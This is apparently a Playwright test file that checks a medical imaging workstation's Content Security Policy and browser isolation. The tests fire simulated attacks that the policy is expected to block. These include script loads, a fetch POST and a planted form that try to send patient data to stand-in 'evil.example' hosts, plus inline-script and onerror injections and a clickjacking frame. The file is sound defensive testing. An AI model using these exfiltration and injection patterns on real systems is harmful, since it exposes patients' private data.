/**
 * The workstation's browser-side defences, checked in Chromium against the production build:
 * no Node in the page, the shared Content Security Policy enforced (no eval, no inline
 * script, nothing from other origins, wasm allowed for the codecs), no way out through forms,
 * links or framing, and no windows opened by the app.
 *
 * What only the Electron shell can do is not claimed here: stopping a top-level navigation the
 * page itself starts (location.href = …) and denying a window.open call are main-process
 * handlers (will-navigate, setWindowOpenHandler). A browser page cannot refuse either; those
 * are covered by electron/window-factory.test.ts and, where an Electron binary is installed,
 * test/electron/electron-shell.electron.ts.
 *
 * The CSP-violation collector (csp-violations.ts) runs in every e2e test through
 * useDemoServer; the tests here that provoke violations on purpose take them and check them,
 * which also proves the collector sees what it is meant to see.
 */
import { expect, test, type Page } from '@playwright/test'
import { CONTENT_SECURITY_POLICY, CONTENT_SECURITY_POLICY_META } from '../../shared/content-security-policy.ts'
import { FIRST_VIEWPORT } from './canvas-pixels.ts'
import { takeCspViolations, type CspViolation } from './csp-violations.ts'
import { logIn, openStudy, useDemoServer } from './demo-server-fixture.ts'

const CT_STUDY_UID = '1.3.46.670589.33.1.27492712521914879309.27169771283235650014'
const demo = useDemoServer()

/** What a Node-integrated or preload-leaking renderer would have on its global object. */
function nodeGlobals(page: Page) {
  return page.evaluate(() => {
    const scope = globalThis as unknown as Record<string, unknown>
    return {
      require: typeof scope.require,
      process: typeof scope.process,
      module: typeof scope.module,
      exports: typeof scope.exports,
      Buffer: typeof scope.Buffer,
      global: typeof scope.global,
      setImmediate: typeof scope.setImmediate,
      __dirname: typeof scope.__dirname,
      readingDesktop: typeof scope.readingDesktop,
    }
  })
}
const NO_NODE = { require: 'undefined', process: 'undefined', module: 'undefined', exports: 'undefined', Buffer: 'undefined', global: 'undefined', setImmediate: 'undefined', __dirname: 'undefined', readingDesktop: 'undefined' }

/** Violations from securitypolicyviolation events, as the directives they broke and what was blocked. */
function eventViolations(violations: CspViolation[]): { effectiveDirective: string; blockedURI: string }[] {
  return violations.filter((v) => v.source === 'event').map((v) => JSON.parse(v.text) as { effectiveDirective: string; blockedURI: string })
}

/** Every link on the page leads to the app's own origin. */
async function expectOnlySameOriginLinks(page: Page): Promise<number> {
  const hrefs = await page.locator('a[href], area[href]').evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href))
  for (const href of hrefs) expect(new URL(href).origin, href).toBe(new URL(demo.server.url).origin)
  return hrefs.length
}

test('the page has no Node: require, process, module and Buffer are undefined before and after login and with the viewer open', async ({ page }) => {
  await page.goto(demo.server.url)
  await expect(page.getByRole('heading', { name: 'ログイン' })).toBeVisible()
  expect(await nodeGlobals(page)).toEqual(NO_NODE)

  await logIn(page, 'reader1')
  await openStudy(page, CT_STUDY_UID)
  await expect(page.locator(FIRST_VIEWPORT).getByTestId('stack-viewport')).toHaveAttribute('data-render-path', 'gpu', { timeout: 60_000 })
  expect(await nodeGlobals(page)).toEqual(NO_NODE)
})

test('the server sends the shared policy: no unsafe-inline or unsafe-eval, only wasm-unsafe-eval, and the page carries it too', async ({ page }) => {
  const response = await page.goto(demo.server.url)
  const header = response?.headers()['content-security-policy']
  expect(header).toBe(CONTENT_SECURITY_POLICY)
  expect(header).not.toMatch(/'unsafe-inline'|'unsafe-eval'/)
  expect(header).toMatch(/script-src 'self' 'wasm-unsafe-eval'(;|$)/)
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', CONTENT_SECURITY_POLICY_META)
})

test('eval, new Function, string timers and inline script are refused; WebAssembly still compiles for the codecs', async ({ page }) => {
  await page.goto(demo.server.url)
  await expect(page.getByRole('heading', { name: 'ログイン' })).toBeVisible()
  const outcome = await page.evaluate(async () => {
    // run later, from a timer: code evaluated by the test driver itself is exempt from the policy
    const later = <T,>(run: () => T) => new Promise<T>((resolve) => setTimeout(() => resolve(run()), 0))
    const attempt = (run: () => unknown) => () => {
      try {
        run()
        return 'ran'
      } catch (error) {
        return (error as Error).name
      }
    }
    const evalResult = await later(attempt(() => (0, eval)('1 + 1')))
    const functionResult = await later(attempt(() => new Function('return 1')()))
    await later(() => setTimeout('document.documentElement.dataset.injected = "string timer"', 0))
    // an inline <script> and an inline event handler, as an HTML injection would plant them
    const script = document.createElement('script')
    script.textContent = 'document.documentElement.dataset.injected = "script"'
    document.body.append(script)
    const holder = document.createElement('div')
    holder.innerHTML = '<img src="/no-such-image.png" onerror="document.documentElement.dataset.injected = \'handler\'">'
    document.body.append(holder)
    await new Promise((resolve) => setTimeout(resolve, 500))
    // the smallest valid module: magic and version
    const wasm = await later(() => WebAssembly.compile(new Uint8Array([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00])).then(
      () => 'compiled',
      (error: Error) => error.name,
    ))
    return { evalResult, functionResult, injected: document.documentElement.dataset.injected ?? 'none', wasm }
  })
  expect(outcome).toEqual({ evalResult: 'EvalError', functionResult: 'EvalError', injected: 'none', wasm: 'compiled' })
  const directives = eventViolations(takeCspViolations()).map((v) => `${v.effectiveDirective} ${v.blockedURI}`)
  expect(directives).toContain('script-src eval')
  expect(directives).toContain('script-src-elem inline')
  expect(directives).toContain('script-src-attr inline')
})

test('nothing from another origin: scripts, frames, plain-http connections and images are refused before any request is made', async ({ page, context }) => {
  const leaked: string[] = []
  // anything CSP let through to the network would show up here
  await context.route((url) => !url.href.startsWith(demo.server.url), async (route) => {
    leaked.push(route.request().url())
    await route.abort()
  })
  await page.goto(demo.server.url)
  await expect(page.getByRole('heading', { name: 'ログイン' })).toBeVisible()
  const fetchOutcome = await page.evaluate(async () => {
    const script = document.createElement('script')
    script.src = 'https://cdn.evil.example/payload.js'
    document.body.append(script)
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(frame)
    const image = document.createElement('img')
    image.src = 'https://tracker.evil.example/pixel.gif'
    document.body.append(image)
    const result = await fetch('http://evil.example/exfiltrate', { method: 'POST', body: 'patient' }).then(
      () => 'sent',
      (error: Error) => error.name,
    )
    await new Promise((resolve) => setTimeout(resolve, 500))
    return result
  })
  expect(fetchOutcome).toBe('TypeError')
  expect(leaked).toEqual([])
  const hostOf = (uri: string) => URL.parse(uri)?.host ?? uri
  const blocked = eventViolations(takeCspViolations()).map((v) => `${v.effectiveDirective} ${hostOf(v.blockedURI)}`)
  expect(blocked).toEqual(
    expect.arrayContaining(['script-src-elem cdn.evil.example', 'frame-src evil.example', 'img-src tracker.evil.example', 'connect-src evil.example']),
  )
})

test('no way out through a link, a frame or a form: every link stays in the app, the app cannot be framed, forms cannot be sent', async ({ page, context }) => {
  // the app's own link handling: no link leads off the origin, before or after login
  await page.goto(demo.server.url)
  await expect(page.getByRole('heading', { name: 'ログイン' })).toBeVisible()
  await expectOnlySameOriginLinks(page)
  await logIn(page, 'reader1')
  await expect(page.getByTestId('worklist-row').first()).toBeVisible({ timeout: 30_000 })
  await expectOnlySameOriginLinks(page)

  // frame-ancestors 'none': a page of another origin cannot frame the workstation (clickjacking);
  // the same page frames an ordinary document fine, so a blank frame is the policy's doing
  await context.route('http://framer.test/**', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: route.request().url().endsWith('/control')
        ? '<h1>framed control</h1>'
        : `<iframe id="control" src="/control"></iframe><iframe id="victim" src="${demo.server.url}/" width="800" height="600"></iframe>`,
    }),
  )
  const framer = await context.newPage()
  await framer.goto('http://framer.test/')
  await expect(framer.frameLocator('#control').getByRole('heading', { name: 'framed control' })).toBeVisible()
  await framer.waitForTimeout(3000)
  await expect(framer.frameLocator('#victim').getByRole('heading', { name: 'ログイン' })).toHaveCount(0)
  await expect(framer.frameLocator('#victim').locator('#root')).toHaveCount(0)
  await framer.close()

  // form-action 'none': a planted form posting patient data elsewhere goes nowhere
  const planted = await context.newPage()
  await planted.goto(demo.server.url)
  await expect(planted.getByRole('heading', { name: 'ログイン' })).toBeVisible()
  const appUrl = planted.url()
  await planted.evaluate(() => {
    const form = document.createElement('form')
    form.method = 'post'
    form.action = 'https://evil.example/steal'
    const field = document.createElement('input')
    field.name = 'patient'
    field.value = 'YAMADA^TARO'
    form.append(field)
    document.body.append(form)
    setTimeout(() => form.submit(), 0)
  })
  await expect.poll(() => eventViolations(takeCspViolations()).map((v) => v.effectiveDirective), { timeout: 10_000 }).toContain('form-action')
  expect(planted.url()).toBe(appUrl)
  await planted.close()
})

test('the app opens no window of its own while a reader logs in, browses the worklist and reads a study', async ({ page, context }) => {
  const popups: string[] = []
  page.on('popup', (popup) => popups.push(popup.url()))
  context.on('page', (opened) => popups.push(opened.url()))
  await page.goto(demo.server.url)
  await logIn(page, 'reader1')
  await openStudy(page, CT_STUDY_UID)
  await expect(page.locator(FIRST_VIEWPORT).getByTestId('stack-viewport')).toHaveAttribute('data-render-path', 'gpu', { timeout: 60_000 })
  await expectOnlySameOriginLinks(page)
  expect(popups).toEqual([])
  expect(context.pages()).toHaveLength(1)
})
